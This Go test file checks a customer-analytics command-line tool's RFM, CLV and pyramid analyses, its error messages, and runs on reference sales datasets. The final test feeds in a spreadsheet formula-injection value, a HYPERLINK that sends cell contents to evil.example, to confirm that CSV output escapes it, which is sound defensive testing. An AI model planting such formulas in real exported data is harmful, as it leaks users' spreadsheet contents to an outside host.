package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/kexi/kexi/analysis"
	"github.com/kexi/kexi/analysis/all"
	"github.com/kexi/kexi/internal/refdata"
	"github.com/kexi/kexi/render"
)

// kexiRun runs a kexi command line and returns its exit code, stdout and stderr.
func kexiRun(t *testing.T, args ...string) (int, string, string) {
	t.Helper()
	var out, errb bytes.Buffer
	code := run(context.Background(), args, func(string) string { return "" }, strings.NewReader(""), &out, &errb)
	return code, out.String(), errb.String()
}

// A tiny transactions file, worked by hand. As of 2024-03-31 (end of day):
//
//	A: orders 2024-03-30 (100), 2024-03-01 (50)  → R 1 day,  F 2, M 150
//	B: order  2024-01-31 (40)                    → R 60 days, F 1, M 40
//	C: orders 2024-02-29 (500), 2024-03-15 (300) → R 16 days, F 2, M 800
const tinyOrders = `order_id,customer_id,order_date,amount
1,A,2024-03-30,100
2,A,2024-03-01,50
3,B,2024-01-31,40
4,C,2024-02-29,500
5,C,2024-03-15,300
`

func TestAnalyzeOrdersCSV(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "orders.csv")
	if err := os.WriteFile(path, []byte(tinyOrders), 0o600); err != nil {
		t.Fatal(err)
	}
	code, out, stderr := kexiRun(t, "analyze", "rfm", "--orders", path, "--as-of", "2024-03-31", "--format", "csv")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("output is not CSV: %v\n%s", err, out)
	}
	if len(recs) != 4 || recs[0][0] != "customer_id" {
		t.Fatalf("want a header and 3 customers, got:\n%s", out)
	}
	// Recency counts whole days from the last order to the end of the as-of day.
	want := map[string][3]string{"A": {"1", "2", "150.00"}, "B": {"60", "1", "40.00"}, "C": {"16", "2", "800.00"}}
	for _, r := range recs[1:] {
		w, ok := want[r[0]]
		if !ok {
			t.Fatalf("unexpected customer %q (external ids should be shown)", r[0])
		}
		if got := [3]string{r[1], r[2], r[3]}; got != w {
			t.Errorf("customer %s: R,F,M = %v, want %v", r[0], got, w)
		}
	}

	// JSON carries the summary figures.
	code, out, stderr = kexiRun(t, "analyze", "--format", "json", "pyramid", "--orders", path)
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	var res struct {
		Name    string `json:"name"`
		Summary []struct {
			Key   string  `json:"key"`
			Value float64 `json:"value"`
		} `json:"summary"`
	}
	if err := json.Unmarshal([]byte(out), &res); err != nil || res.Name != "pyramid" || len(res.Summary) == 0 {
		t.Fatalf("json output: %v\n%s", err, out)
	}
}

func TestAnalyzeErrors(t *testing.T) {
	for _, tc := range []struct {
		args []string
		code int
		msg  string
	}{
		{[]string{"analyze"}, 2, "name at least one analysis"},
		{[]string{"analyze", "nosuch", "--orders", "x.csv"}, 2, `no analysis called "nosuch"`},
		{[]string{"analyze", "rfm", "--orders", "/nonexistent.csv"}, 2, "cannot open"},
		{[]string{"analyze", "rfm", "--format", "pdf", "--orders", "x.csv"}, 2, "expected table, json, csv or xlsx"},
		{[]string{"analyze", "rfm", "--as-of", "31/3/2024", "--orders", "x.csv"}, 2, "expected a date"},
		{[]string{"analyze", "rfm", "--db", "/nonexistent/kexi.db"}, 2, "not found"},
	} {
		code, _, stderr := kexiRun(t, tc.args...)
		if code != tc.code || !strings.Contains(stderr, tc.msg) {
			t.Errorf("%v: exit %d, stderr %q; want exit %d and %q", tc.args, code, stderr, tc.code, tc.msg)
		}
	}
}

func TestAnalyzeList(t *testing.T) {
	code, out, _ := kexiRun(t, "analyze", "--list")
	if code != 0 {
		t.Fatalf("exit %d", code)
	}
	for _, a := range all.List() {
		if !strings.Contains(out, a.Info().Name) {
			t.Errorf("--list misses %s", a.Info().Name)
		}
	}
}

// TestAnalyzeOnlineRetail runs RFM straight from the real Online Retail file: the importer
// turns C-invoices into returns and leaves rows without a customer out, so the purchases are
// the SPEC's cleaned set and customer 14646 spends £280,206.02.
func TestAnalyzeOnlineRetail(t *testing.T) {
	if testing.Short() {
		t.Skip("reads 541,909 rows")
	}
	path := refdata.Path(t, "online-retail/online_retail.csv.gz")
	code, out, stderr := kexiRun(t, "analyze", "rfm", "--orders", path, "--format", "csv")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	// SPEC's 4,338 customers are those left after dropping price-0 rows; customer 13256's one
	// invoice is all price-0 lines (free goods), a $0 purchase that RFM counts with M = 0.
	if len(recs)-1 != 4339 {
		t.Errorf("%d customers, want 4339", len(recs)-1)
	}
	found := false
	for _, r := range recs[1:] {
		if r[0] == "13256" && (r[2] != "1" || r[3] != "0.00") {
			t.Errorf("customer 13256: F %s M %s, want one $0 purchase", r[2], r[3])
		}
		if r[0] == "14646" {
			found = true
			if r[3] != "280206.02" {
				t.Errorf("customer 14646 monetary %s, want 280206.02", r[3])
			}
		}
	}
	if !found {
		t.Error("customer 14646 missing")
	}
	if !strings.Contains(stderr, "135080") {
		t.Errorf("expected a warning about the 135,080 rows without a customer, got %q", stderr)
	}
}

// TestAnalyzeCDNOW runs the CLV analysis with its defaults on the raw CDNOW sample log (as a
// customer_id,date,amount CSV) as of 1997-09-30: its 8 $0 rows (free CDs) are purchases, so all
// 2,357 customers are there and BG/NBD gives the published r = 0.2426, α = 4.414, a = 0.7929,
// b = 2.426 (4 significant digits). Dropping the $0 rows gave 2,349 customers and r = 0.2439.
func TestAnalyzeCDNOW(t *testing.T) {
	raw, err := os.ReadFile(refdata.Path(t, "cdnow/CDNOW_sample.txt"))
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	b.WriteString("customer_id,date,amount\n")
	for _, l := range strings.Split(string(raw), "\n") {
		f := strings.Fields(l) // master id, sample id, YYYYMMDD, CDs, dollars
		if len(f) == 5 {
			d := f[2]
			b.WriteString(f[1] + "," + d[:4] + "-" + d[4:6] + "-" + d[6:] + "," + f[4] + "\n")
		}
	}
	path := filepath.Join(t.TempDir(), "cdnow.csv")
	if err := os.WriteFile(path, []byte(b.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	code, out, stderr := kexiRun(t, "analyze", "clv", "--orders", path, "--as-of", "1997-09-30", "--format", "json")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	var res struct {
		Summary []struct {
			Key   string  `json:"key"`
			Value float64 `json:"value"`
		} `json:"summary"`
	}
	if err := json.Unmarshal([]byte(out), &res); err != nil {
		t.Fatal(err)
	}
	want := map[string]string{"customers": "2357", "r": "0.2426", "alpha": "4.414", "a": "0.7929", "b": "2.426"}
	for _, f := range res.Summary {
		if w, ok := want[f.Key]; ok {
			if got := strconv.FormatFloat(f.Value, 'g', 4, 64); got != w {
				t.Errorf("%s = %v, want %s", f.Key, f.Value, w)
			}
			delete(want, f.Key)
		}
	}
	if len(want) > 0 {
		t.Errorf("figures missing: %v", want)
	}
}

// TestAnalyzeCSVEscapesFormulas: kexi analyze --format csv writes text a spreadsheet would run
// as a formula with an apostrophe in front, and numbers as they are.
func TestAnalyzeCSVEscapesFormulas(t *testing.T) {
	r := &analysis.Result{Tables: []analysis.Table{{Key: "t", Columns: []analysis.Column{{Key: "group", Type: "text"}, {Key: "value", Type: "number"}},
		Rows: [][]any{{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, -5.0}, {"@x", 3.0}}}}}
	var buf bytes.Buffer
	if err := render.CSV(&buf, analysis.Info{Name: "x"}, r, "en"); err != nil {
		t.Fatal(err)
	}
	want := "group,value\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",-5\n'@x,3\n"
	if buf.String() != want {
		t.Errorf("got\n%s\nwant\n%s", buf.String(), want)
	}
}
